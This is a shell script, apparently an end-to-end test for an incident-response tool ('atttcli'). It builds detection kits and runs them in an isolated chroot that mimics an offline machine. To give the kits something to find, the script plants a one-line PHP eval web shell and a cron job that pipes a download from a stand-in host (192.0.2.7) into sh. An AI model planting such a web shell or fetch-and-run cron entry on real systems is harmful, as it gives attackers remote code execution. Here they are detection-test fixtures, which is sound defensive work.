#!/bin/sh
# The whole way of a kit, once with the scanner and once with the collector: built at the centre, carried to a machine without
# a network, without atttcli and without anything but its own system, run there, brought back, checked, imported; what was found
# stands as alerts of that agency. The "machine" is a clean root in name spaces of its own: this system's tools and Python, copied, and nothing else.
#
#   sh docs/kit-round-trip.sh [FOLDER]        (Linux; needs unshare and mount of util-linux; ATTTCLI=… names the command)
set -eu
work=${1:-$(mktemp -d)}
atttcli=${ATTTCLI:-atttcli}
export ATTTCLI_HOME="$work/home" ATTTCLI_WORKSPACE="$work/trung-tam"
mkdir -p "$work/home"

say() { printf '\n== %s\n' "$*"; }

say 'At the centre: a workspace, a key, a list, two kits'
"$atttcli" init "$work/trung-tam" --organisation bac-kan
"$atttcli" key create --name 'Trung tâm'
printf 'type,value,description\nsha256,%s,Tệp thử\n' \
    "$(printf 'tệp xấu trong danh sách' | sha256sum | cut -d' ' -f1)" >"$work/danh-sach.csv"
"$atttcli" kit build --agency x-vi-huong --os linux --system-python --indicators "$work/danh-sach.csv" -o "$work/USB quét"
"$atttcli" kit build --agency x-vi-huong --os linux --indicators "$work/danh-sach.csv" -o "$work/USB thu thập"

say 'A machine of the commune: no network, no atttcli; a web shell, a file that a list names, a job'
machine="$work/máy"
mkdir -p "$machine/etc" "$machine/srv/www" "$machine/home/can-bo" "$machine/media/usb" "$machine/proc" "$machine/dev" \
    "$machine/tmp" "$machine/var/tmp" "$machine/usr/bin" "$machine/usr/lib"
for name in bin sbin lib lib64; do
    [ -L "/$name" ] || continue
    mkdir -p "$machine/$(readlink "/$name")"
    ln -s "$(readlink "/$name")" "$machine/$name"
done

put() { # a file, at the place where it stands here
    mkdir -p "$machine$(dirname "$1")"
    [ -e "$machine$1" ] || cp -L "$1" "$machine$1"
}
carry() { # a program and the libraries of the system that it needs
    case $1 in /usr/*) put "$1" ;; esac
    ldd "$1" 2>/dev/null | grep -o '[[:space:]]/[^ ]*' | while read -r name; do
        case $name in /usr/* | /lib*) put "$name" ;; esac
    done
}

for name in sh env id awk cat chmod cp cut date dirname find grep gzip head hostname ls md5sum mkdir mktemp mv nice od ps \
    readlink rm rmdir sed sha1sum sha256sum sleep sort stat sync tail tar timeout touch tr uname uniq wc xargs python3; do
    program=$(PATH=/usr/bin:/bin command -v "$name") && carry "$program"
done
library=$(/usr/bin/python3 -I -S -c 'import os; print(os.path.dirname(os.__file__))')
mkdir -p "$machine$library"
(cd "$library" && tar -cf - --exclude=test --exclude=__pycache__ --exclude='*-packages' --exclude='config-*' .) |
    tar -xf - -C "$machine$library"
for module in "$library"/lib-dynload/*.so "$work/USB quét"/lib/*/*.so; do carry "$module"; done
echo 'root:x:0:0:root:/root:/bin/sh' >"$machine/etc/passwd"
echo '5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e' >"$machine/etc/machine-id"
printf '<?php @eval($_POST["x"]); ?>' >"$machine/srv/www/anh.php"
printf 'tệp xấu trong danh sách' >"$machine/tmp/cap-nhat"
chmod 755 "$machine/tmp/cap-nhat"
mkdir -p "$machine/etc/cron.d"
echo '* * * * * root curl -s http://192.0.2.7/x | sh' >"$machine/etc/cron.d/cap-nhat"
: >"$machine/dev/null"

on_machine() { # STICK: start what a person would start
    unshare --map-root-user --mount --net --uts --fork sh -c '
        hostname xa-01
        mount --rbind /proc "$1/proc" && mount --bind /dev/null "$1/dev/null"
        mount --bind "$2" "$1/media/usb"
        exec chroot "$1" /usr/bin/env -i HOME=/home/can-bo PATH=/usr/bin:/bin:/usr/sbin LANG=C.UTF-8 \
            sh /media/usb/bat-dau.sh
    ' sh "$machine" "$1"
}

snapshot() { (cd "$machine" && find . -xdev -path ./media/usb -prune -o -printf '%p %y %s %T@ %C@\n' | LC_ALL=C sort); }

# 0 nothing found, 1 found, 2 not everything could be looked at: all are answers, and the last line says which.
answered() { [ "$1" -le 2 ] || exit "$1"; }

snapshot >"$work/before"
for stick in 'USB quét' 'USB thu thập'; do
    say "On the machine: $stick"
    code=0
    on_machine "$work/$stick" || code=$?
    answered "$code"
done
snapshot >"$work/after"

say 'Nothing was left behind on the machine'
diff "$work/before" "$work/after"

for stick in 'USB quét' 'USB thu thập'; do
    say "Back at the centre: $stick"
    "$atttcli" kit check "$work/$stick"
    "$atttcli" bundle verify "$work/$stick"/out/*
    code=0
    "$atttcli" bundle import "$work/$stick/out" || code=$?
    answered "$code"
done

say 'What was found, as alerts of that agency'
"$atttcli" alert list
